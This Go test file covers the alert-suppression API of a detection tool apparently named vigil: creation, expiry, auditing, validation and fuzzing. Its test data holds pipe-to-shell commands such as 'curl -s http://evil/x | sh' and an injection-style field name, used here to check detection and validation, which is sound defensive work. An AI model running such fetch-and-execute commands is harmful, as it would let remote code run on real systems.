package web

import (
	"bytes"
	"context"
	"fmt"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/vigilhq/vigil"
	"github.com/vigilhq/vigil/state"
)

const curlRule = "11111111-2222-3333-4444-555555555555" // the rule withConsole loads

func TestSuppressionsEndpoints(t *testing.T) {
	_, mod := withConsole(t)
	e := newEnv(t, mod)
	ctx := context.Background()
	op := e.tokens[state.RoleOperator]

	// Created from an alert ("suppress similar"): rule, host and a field.
	before := time.Now()
	r := e.do("POST", "/api/v1/suppressions", op, SuppressionRequest{RuleID: curlRule, Host: "web-01",
		Field: "process_command_line", Value: "curl -s http://mirror/update.sh | sh", Reason: "nightly update job", ExpiresIn: "7d"})
	if r.status != 201 {
		t.Fatalf("create: %d %s", r.status, r.body)
	}
	var s state.Suppression
	r.decode(t, &s)
	if s.ID == 0 || s.CreatedBy != "operator-user" || s.Field != "process_command_line" || r.header.Get("Location") != fmt.Sprint("/api/v1/suppressions/", s.ID) {
		t.Errorf("created %+v (Location %q)", s, r.header.Get("Location"))
	}
	if d := s.ExpiresAt.Sub(before); d < 7*24*time.Hour-time.Minute || d > 7*24*time.Hour+time.Minute {
		t.Errorf("7d expiry is %s away", d)
	}
	at := time.Now().Add(2 * time.Hour).UTC().Truncate(time.Second)
	r = e.do("POST", "/api/v1/suppressions", op, SuppressionRequest{Host: "db-01", Reason: "maintenance", ExpiresAt: at.Format(time.RFC3339)})
	if r.status != 201 {
		t.Fatalf("create by expires_at: %d %s", r.status, r.body)
	}
	var s2 state.Suppression
	r.decode(t, &s2)
	if !s2.ExpiresAt.Equal(at) {
		t.Errorf("expires_at %s, want %s", s2.ExpiresAt, at)
	}

	// It applies to detection: a matching alert is silenced, another not.
	match := vigil.Alert{RuleID: curlRule, HostID: "h1", Hostname: "web-01", EventID: "ev1",
		Fields: map[string]any{"process_command_line": "curl -s http://mirror/update.sh | sh"}}
	other := match
	other.EventID, other.Fields = "ev2", map[string]any{"process_command_line": "curl -s http://evil/x | sh"}
	created, _, suppressed, err := e.db.CommitMatches(ctx, curlRule, "process_creation", 2, []vigil.Alert{match, other}, nil, 0)
	if err != nil || len(created) != 1 || created[0].EventID != "ev2" || suppressed != 1 {
		t.Fatalf("detection with the suppression: created %+v suppressed %d %v", created, suppressed, err)
	}

	list := func(q string) []state.Suppression {
		var out SuppressionsList
		r := e.do("GET", "/api/v1/suppressions"+q, e.tokens[state.RoleViewer], nil)
		if r.status != 200 {
			t.Fatalf("list%s: %d %s", q, r.status, r.body)
		}
		r.decode(t, &out)
		return out.Suppressions
	}
	if got := list(""); len(got) != 2 || got[0].ID != s2.ID || got[1].Hits != 1 {
		t.Errorf("active suppressions %+v: want both, newest first, one hit on the first", got)
	}

	// Expired: gone from the default list, kept with ?expired=1.
	if r := e.do("DELETE", fmt.Sprint("/api/v1/suppressions/", s.ID), op, nil); r.status != 204 {
		t.Fatalf("expire: %d %s", r.status, r.body)
	}
	if r := e.do("DELETE", fmt.Sprint("/api/v1/suppressions/", s.ID), op, nil); r.status != 404 {
		t.Errorf("expiring twice: %d %s, want 404", r.status, r.body)
	}
	if got := list(""); len(got) != 1 || got[0].ID != s2.ID {
		t.Errorf("after expiry %+v", got)
	}
	if got := list("?expired=1"); len(got) != 2 || got[1].ID != s.ID || got[1].ExpiresAt.After(time.Now()) || got[1].Hits != 1 {
		t.Errorf("with expired %+v", got)
	}
	// The next match opens an alert again.
	again := match
	again.EventID = "ev3"
	if created, _, _, _ := e.db.CommitMatches(ctx, curlRule, "process_creation", 3, []vigil.Alert{again}, nil, 0); len(created) != 1 {
		t.Errorf("after expiry the match was still suppressed")
	}

	// Audited, with who, from where and what.
	log, _ := e.db.AuditLog(ctx, state.AuditFilter{Action: "suppression.create"})
	if len(log) != 2 || log[0].Actor != "operator-user" || log[0].Source == "" || log[0].Detail["reason"] != "nightly update job" {
		t.Errorf("creations audited as %+v", log)
	}
	log, _ = e.db.AuditLog(ctx, state.AuditFilter{Action: "suppression.expire"})
	if len(log) != 1 || log[0].Target != fmt.Sprint(s.ID) || log[0].Actor != "operator-user" {
		t.Errorf("expiry audited as %+v", log)
	}
}

func TestSuppressionValidation(t *testing.T) {
	_, mod := withConsole(t)
	e := newEnv(t, mod)
	op := e.tokens[state.RoleOperator]
	ok := SuppressionRequest{RuleID: curlRule, Reason: "known", ExpiresIn: "1h"}
	with := func(f func(*SuppressionRequest)) SuppressionRequest { r := ok; f(&r); return r }
	for _, c := range []struct {
		body any
		want string
	}{
		{with(func(r *SuppressionRequest) { r.RuleID = "" }), "needs something to match"},
		{with(func(r *SuppressionRequest) { r.RuleID = "no-such-rule" }), `rule_id "no-such-rule" is not a rule loaded`},
		{with(func(r *SuppressionRequest) { r.Reason = "  " }), "reason is empty"},
		{with(func(r *SuppressionRequest) { r.Reason = strings.Repeat("x", 1001) }), "reason is 1001 bytes"},
		{with(func(r *SuppressionRequest) { r.Value = "x" }), `value "x" without a field`},
		{with(func(r *SuppressionRequest) { r.Field = "user_name" }), `field "user_name" without a value`},
		{with(func(r *SuppressionRequest) { r.Field, r.Value = "user name; DROP", "x" }), "is not an event field name"},
		{with(func(r *SuppressionRequest) { r.Host = strings.Repeat("h", 300) }), "host is 300 bytes"},
		{with(func(r *SuppressionRequest) { r.ExpiresIn = "" }), "no expiry"},
		{with(func(r *SuppressionRequest) { r.ExpiresAt = "2030-01-01T00:00:00Z" }), "not both"},
		{with(func(r *SuppressionRequest) { r.ExpiresIn = "soon" }), `expires_in "soon"`},
		{with(func(r *SuppressionRequest) { r.ExpiresIn = "-1h" }), `expires_in "-1h"`},
		{with(func(r *SuppressionRequest) { r.ExpiresIn = "400d" }), "longer than 365 days"},
		{with(func(r *SuppressionRequest) { r.ExpiresIn, r.ExpiresAt = "", "tomorrow" }), `expires_at "tomorrow"`},
		{with(func(r *SuppressionRequest) { r.ExpiresIn, r.ExpiresAt = "", "2020-01-01T00:00:00Z" }), "not in the future"},
		{with(func(r *SuppressionRequest) { r.ExpiresIn, r.ExpiresAt = "", "2999-01-01T00:00:00Z" }), "more than 365 days away"},
		{map[string]any{"rule": curlRule, "reason": "x", "expires_in": "1h"}, "unknown field"},
	} {
		r := e.do("POST", "/api/v1/suppressions", op, c.body)
		if r.status != 400 || !strings.Contains(r.errorMsg(), c.want) {
			t.Errorf("POST %+v = %d %s, want 400 mentioning %q", c.body, r.status, r.body, c.want)
		}
	}
	if ss, _ := e.db.Suppressions(context.Background(), true); len(ss) != 0 {
		t.Errorf("invalid requests stored suppressions: %+v", ss)
	}
	for _, c := range []struct{ method, path string }{
		{"DELETE", "/api/v1/suppressions/abc"},
		{"GET", "/api/v1/suppressions?expired=maybe"},
	} {
		if r := e.do(c.method, c.path, op, nil); r.status != 400 || r.errorMsg() == "" {
			t.Errorf("%s %s = %d %s, want 400", c.method, c.path, r.status, r.body)
		}
	}
	if r := e.do("DELETE", "/api/v1/suppressions/12345", op, nil); r.status != 404 {
		t.Errorf("expiring an unknown suppression: %d", r.status)
	}
	// Whole days are accepted beside Go durations.
	if r := e.do("POST", "/api/v1/suppressions", op, with(func(r *SuppressionRequest) { r.ExpiresIn = "30d" })); r.status != 201 {
		t.Errorf("30d: %d %s", r.status, r.body)
	}
}

// FuzzSuppressionRequest: any body either is refused with a message or
// becomes a suppression that matches something, has a reason, and
// expires within MaxSuppression.
func FuzzSuppressionRequest(f *testing.F) {
	f.Add([]byte(`{"rule_id":"r","host":"web-01","field":"process_command_line","value":"curl x | sh","reason":"job","expires_in":"7d"}`))
	f.Add([]byte(`{"host":"h","reason":"r","expires_at":"2030-01-02T03:04:05Z"}`))
	f.Add([]byte(`{"field":"user_name","value":"","reason":"r","expires_in":"-1d"}`))
	f.Add([]byte(`{"rule_id":"r","reason":"r","expires_in":"9999999999d"}`))
	now := time.Date(2026, 11, 27, 0, 0, 0, 0, time.UTC)
	api := &API{opts: Options{}, now: func() time.Time { return now }}
	f.Fuzz(func(t *testing.T, body []byte) {
		var req SuppressionRequest
		if err := decode(httptest.NewRequest("POST", "/", bytes.NewReader(body)), &req); err != nil {
			return
		}
		s, msg := api.suppressionOf(req)
		if msg != "" {
			return
		}
		if s.RuleID == "" && s.Host == "" && s.Field == "" {
			t.Fatalf("%s: accepted a suppression matching everything", body)
		}
		if s.Reason == "" || (s.Field == "") != (s.Value == "") || (s.Field != "" && !fieldName.MatchString(s.Field)) {
			t.Fatalf("%s: accepted %+v", body, s)
		}
		if !s.ExpiresAt.After(now) || s.ExpiresAt.Sub(now) > MaxSuppression {
			t.Fatalf("%s: expiry %s is not within (now, now+%s]", body, s.ExpiresAt, MaxSuppression)
		}
	})
}
